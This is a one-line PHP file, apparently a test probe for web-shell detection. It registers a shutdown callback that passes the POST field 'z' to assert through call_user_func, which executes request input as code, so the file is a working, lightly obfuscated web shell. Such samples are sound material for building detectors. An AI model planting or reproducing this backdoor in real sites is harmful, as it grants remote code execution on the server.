<?php
// a probe written for the tests: a callback API handed the name of another, which runs request input
register_shutdown_function('call_user_func', 'assert', @$_POST['z']);
